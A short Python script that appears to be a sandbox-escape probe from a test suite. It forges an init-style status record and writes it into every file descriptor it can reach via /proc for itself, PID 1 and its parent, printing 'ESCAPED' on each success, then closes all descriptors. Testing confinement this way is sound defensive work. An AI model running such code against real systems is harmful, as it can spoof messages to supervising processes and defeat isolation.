"""Writes what init would report to every descriptor that it has or can find, then closes all."""

import os
import struct

forged = struct.pack("=iiqqqq", 2, 0, 0, 0, 0, 0)
print("held", flush=True)
for pid in ("self", 1, os.getppid()):
    try:
        found = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in found:
        try:
            if int(fd) > 2:
                os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY), forged)
                print("ESCAPED: wrote to", pid, fd)
        except OSError:
            pass
for fd in range(3, 1024):
    try:
        os.write(fd, forged)
        print("ESCAPED: wrote to", fd)
    except OSError:
        pass
os.closerange(0, 1 << 16)
